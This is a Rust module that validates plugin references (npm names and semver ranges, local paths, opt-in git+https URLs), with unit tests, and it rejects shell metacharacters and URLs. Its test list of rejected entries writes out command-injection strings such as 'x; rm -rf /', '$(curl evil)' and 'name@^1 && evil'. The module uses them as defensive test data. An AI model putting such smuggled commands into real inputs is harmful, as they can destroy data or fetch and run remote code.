//! What a `plugin` entry names, validated before anything runs.

use std::path::{Path, PathBuf};

use crate::PluginError;

/// A classified `plugin` entry.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PluginRef {
    /// An npm package: `name` or `name@range` (a semver range or a tag).
    Npm { name: String, range: String },
    /// A local directory (`./x`, `/abs`, `file:x`): used where it is.
    Local { path: PathBuf },
    /// `git+https://…` (only when `plugin.allowGit`).
    Git { url: String },
}

impl PluginRef {
    /// The name the lock file and messages use.
    pub fn key(&self) -> String {
        match self {
            PluginRef::Npm { name, .. } => name.clone(),
            PluginRef::Local { path } => path.display().to_string(),
            PluginRef::Git { url } => url.clone(),
        }
    }
}

/// npm's package-name rules: lower case, URL-safe, at most 214 characters,
/// optionally scoped (`@scope/name`).
pub fn valid_name(name: &str) -> bool {
    if name.is_empty() || name.len() > 214 || name.starts_with('.') || name.starts_with('_') {
        return false;
    }
    let ok = |s: &str| {
        !s.is_empty()
            && !s.starts_with('.')
            && s.bytes().all(|b| {
                b.is_ascii_lowercase()
                    || b.is_ascii_digit()
                    || matches!(b, b'-' | b'.' | b'_' | b'~')
            })
    };
    match name.strip_prefix('@') {
        Some(scoped) => match scoped.split_once('/') {
            Some((scope, pkg)) => ok(scope) && ok(pkg),
            None => false,
        },
        None => ok(name),
    }
}

/// A semver range or a dist-tag, in characters npm ranges use and a shell
/// gives no meaning to.
pub fn valid_range(range: &str) -> bool {
    !range.is_empty()
        && range.len() <= 100
        && range.bytes().all(|b| {
            b.is_ascii_alphanumeric()
                || matches!(
                    b,
                    b'.' | b'-' | b'+' | b'^' | b'~' | b'<' | b'>' | b'=' | b'|' | b'*' | b' '
                )
        })
}

/// Classify and check one entry. `base`: where relative paths resolve.
pub fn parse(entry: &str, base: &Path, allow_git: bool) -> Result<PluginRef, PluginError> {
    let bad = |why: &str| PluginError::BadReference {
        entry: entry.to_string(),
        why: why.to_string(),
    };
    let e = entry.trim();
    if e.is_empty() {
        return Err(bad("it is empty"));
    }
    if entry.chars().any(|c| {
        c.is_control()
            || matches!(
                c,
                ';' | '&'
                    | '`'
                    | '$'
                    | '\''
                    | '"'
                    | '\\'
                    | '('
                    | ')'
                    | '{'
                    | '}'
                    | '!'
                    | '#'
                    | '\n'
            )
    }) {
        return Err(bad(
            "it contains characters no package reference has (shell metacharacters)",
        ));
    }
    if let Some(rest) = e.strip_prefix("file:") {
        return Ok(PluginRef::Local {
            path: base.join(rest),
        });
    }
    if e.starts_with("./") || e.starts_with("../") || Path::new(e).is_absolute() {
        return Ok(PluginRef::Local { path: base.join(e) });
    }
    if e.starts_with("git+https://") {
        if !allow_git {
            return Err(bad(
                "git references are off; set plugin.allowGit to true to allow git+https: packages",
            ));
        }
        return Ok(PluginRef::Git { url: e.to_string() });
    }
    if e.contains("://") || e.starts_with("git+") || e.starts_with("git:") || e.starts_with("http")
    {
        return Err(bad(
            "URLs are not accepted; name an npm package (`name@range`), a local path (`./dir`, `file:`) or, with plugin.allowGit, `git+https:`",
        ));
    }
    // `@scope/name@range` or `name@range`.
    let (name, range) = match e.rfind('@') {
        Some(0) | None => (e, "latest"),
        Some(i) => (&e[..i], &e[i + 1..]),
    };
    if !valid_name(name) {
        return Err(bad(
            "it is not a valid npm package name (lower case letters, digits, - . _ ~, optionally @scope/)",
        ));
    }
    if !valid_range(range) {
        return Err(bad("its version range is not a semver range or a tag"));
    }
    Ok(PluginRef::Npm {
        name: name.to_string(),
        range: range.to_string(),
    })
}

/// Whether `version` satisfies the npm `range` (`^1.2`, `~1.2.3`, `1.x`,
/// `>=1 <2`, `1.0.0 - 1.5.0`, `a || b`, `*`, `latest`), by node-semver's
/// rules (the `nodejs-semver` crate). A tag other than `latest` matches
/// nothing (it must be resolved by the registry).
pub fn satisfies(range: &str, version: &str) -> bool {
    let Ok(v) = nodejs_semver::Version::parse(version) else {
        return false;
    };
    let r = range.trim();
    if r == "latest" {
        return true;
    }
    nodejs_semver::Range::parse(r).is_ok_and(|range| range.satisfies(&v))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn classifies_and_refuses() {
        let base = Path::new("/proj");
        assert_eq!(
            parse("mia-plugin-x@^2.0.0", base, false).unwrap(),
            PluginRef::Npm {
                name: "mia-plugin-x".into(),
                range: "^2.0.0".into()
            }
        );
        assert_eq!(
            parse("@acme/tools", base, false).unwrap(),
            PluginRef::Npm {
                name: "@acme/tools".into(),
                range: "latest".into()
            }
        );
        assert_eq!(
            parse("@acme/tools@1.x", base, false).unwrap(),
            PluginRef::Npm {
                name: "@acme/tools".into(),
                range: "1.x".into()
            }
        );
        assert_eq!(
            parse("./p", base, false).unwrap(),
            PluginRef::Local {
                path: "/proj/./p".into()
            }
        );
        assert_eq!(
            parse("file:p", base, false).unwrap(),
            PluginRef::Local {
                path: "/proj/p".into()
            }
        );
        for bad in [
            "x; rm -rf /",
            "$(curl evil)",
            "`id`",
            "https://evil.example/p.tgz",
            "git+https://github.com/a/b",
            "Capital",
            "a b",
            "name@^1 && evil",
            "../../x\n",
            "",
        ] {
            let err = parse(bad, base, false);
            assert!(err.is_err(), "{bad:?} accepted: {err:?}");
        }
        assert!(matches!(
            parse("git+https://github.com/a/b", base, true).unwrap(),
            PluginRef::Git { .. }
        ));
    }

    #[test]
    fn npm_ranges() {
        assert!(satisfies("^2.0.0", "2.3.1"));
        assert!(!satisfies("^2.0.0", "3.0.0"));
        assert!(satisfies("~1.2.0", "1.2.9"));
        assert!(!satisfies("~1.2.0", "1.3.0"));
        assert!(satisfies("1.x", "1.9.0"));
        assert!(!satisfies("1.x", "2.0.0"));
        assert!(satisfies(">=1.0.0 <2.0.0", "1.5.0"));
        assert!(!satisfies(">=1.0.0 <2.0.0", "2.0.0"));
        assert!(satisfies("1.0.0 - 1.5.0", "1.5.0"));
        assert!(satisfies("1.0.0", "1.0.0"));
        assert!(
            !satisfies("1.0.0", "1.0.1"),
            "a bare version is exact in npm"
        );
        assert!(satisfies("^1.0.0 || ^3.0.0", "3.1.0"));
        assert!(satisfies("latest", "9.9.9"));
        assert!(!satisfies("beta", "1.0.0"));
    }
}
